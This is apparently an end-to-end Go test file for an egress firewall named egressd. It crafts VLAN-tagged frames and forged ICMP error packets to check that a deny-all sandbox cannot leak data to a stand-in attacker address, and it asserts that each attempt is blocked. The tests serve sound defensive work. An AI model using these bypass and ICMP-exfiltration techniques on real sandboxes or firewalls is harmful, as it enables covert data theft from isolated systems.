package e2e

import (
	"fmt"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/internal/netnstest"
)

func TestVLANTaggedFramesOnBridge(t *testing.T) {
	for _, nf := range []string{"1", "0"} {
		t.Run("nf="+nf, func(t *testing.T) {
			e, sbs := newBridgeEnv(t, nf)
			a, b := sbs[0], sbs[1]
			recA := listenRecorders(t, a.NS, nil, []int{7001})
			recB := listenRecorders(t, b.NS, nil, []int{7001})
			macA, macB := macOf(t, a.NS, "eth0"), macOf(t, b.NS, "eth0")
			ipA, ipB := a.Addr4, b.Addr4
			// control: untagged UDP a→b must be blocked
			sendFrames(t, a.NS, "eth0", frame(macB, macA, false, 0, 0x0800,
				udp4(ipA, ipB, 40000, 7001, []byte("ctl-untagged-a2b"))))
			for _, vid := range []uint16{0} {
				m := fmt.Sprintf("vlan%d-a2b", vid)
				sendFrames(t, a.NS, "eth0", frame(macB, macA, true, vid, 0x0800,
					udp4(ipA, ipB, 40000, 7001, []byte(m))))
				m6 := fmt.Sprintf("vlan%d-a2b-v6", vid)
				sendFrames(t, a.NS, "eth0", frame(macB, macA, true, vid, 0x86dd,
					udp6(a.Addr6, b.Addr6, 40000, 7001, []byte(m6))))
				// deny-all b to a
				mb := fmt.Sprintf("vlan%d-b2a-denyall", vid)
				sendFrames(t, b.NS, "eth0", frame(macA, macB, true, vid, 0x0800,
					udp4(ipB, ipA, 40000, 7001, []byte(mb))))
			}
			time.Sleep(500 * time.Millisecond)
			t.Logf("b saw: %q", recB.all())
			t.Logf("a saw: %q", recA.all())
			for _, m := range []string{"ctl-untagged-a2b"} {
				if len(recB.matching(m)) > 0 {
					t.Errorf("control leaked: %s", m)
				}
			}
			for _, m := range []string{"vlan0-a2b", "vlan0-a2b-v6"} {
				if len(recB.matching(m)) > 0 {
					t.Errorf("LEAK %s reached sandbox b", m)
				}
			}
			if len(recA.matching("vlan0-b2a-denyall")) > 0 {
				t.Errorf("LEAK deny-all b reached a with a VID-0 frame")
			}
			_ = e
		})
	}
}

// TestICMPErrorExfiltration: a forged ICMP error, which conntrack relates
// (reply direction) to whatever connection it quotes, carries no bytes out
// of a deny-all sandbox (helper-5's finding).

func TestICMPErrorExfiltration(t *testing.T) {
	cases := []struct {
		name   string
		bridge bool
	}{{"veth deny-all", false}, {"bridge deny-all", true}}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var e *env
			var sbNS string
			var sbAddr netip.Addr
			if c.bridge {
				var sbs []*netnstest.ExtraSandbox
				e, sbs = newBridgeEnv(t, "1")
				sbNS, sbAddr = sbs[1].NS, sbs[1].Addr4 // b, deny-all
			} else {
				e = newEnv(t, denyAllSandbox)
				sbNS, sbAddr = e.tp.Sandbox, netnstest.SandboxAddr4
			}
			sink := icmpSink(t, e.tp.Internet)
			X := netnstest.InternetAddr4         // 198.51.100.2, attacker
			H := netnstest.FirewallInternetAddr4 // 198.51.100.1, the host
			// control: ICMP error quoting a flow conntrack does not know
			inner := udp4(X, H, 41000, 9999, nil)[:28]
			sendRaw4(t, sbNS, icmpErr4(sbAddr, X, 3, 3, append(inner, []byte("ctl-icmp-exfil")...)))
			if got := waitRec(sink, "ctl-icmp-exfil"); got != nil {
				t.Errorf("control ICMP error leaked: %q", got)
			}
			// attacker X sends one UDP datagram to the host: conntrack
			// now has X:41000 → H:9999, whose reply direction is H → X.
			if err := netnstest.Do(e.tp.Internet, func() error {
				c, err := net.DialUDP("udp4", &net.UDPAddr{IP: X.AsSlice(), Port: 41000},
					&net.UDPAddr{IP: H.AsSlice(), Port: 9999})
				if err != nil {
					return err
				}
				defer c.Close()
				_, err = c.Write([]byte("hello"))
				return err
			}); err != nil {
				t.Fatal(err)
			}
			time.Sleep(100 * time.Millisecond)
			secret := strings.Repeat("SECRET-exfil-via-icmp-error ", 40)
			sendRaw4(t, sbNS, icmpErr4(sbAddr, X, 3, 3, append(inner, []byte(secret)...)))
			if got := waitRec(sink, "SECRET-exfil-via-icmp-error"); got != nil {
				t.Errorf("LEAK: deny-all sandbox delivered %d bytes to %s in an ICMP error: %.200s",
					len(got[0]), X, got[0])
			}
			t.Logf("conntrack/nft counters:\n%s", e.tp.Run(e.tp.Firewall, "nft", "list", "chain", "inet", "egressd", "deny_all"))
		})
	}
}

// ---- attack 3: crafted TCP flags and stray segments ----
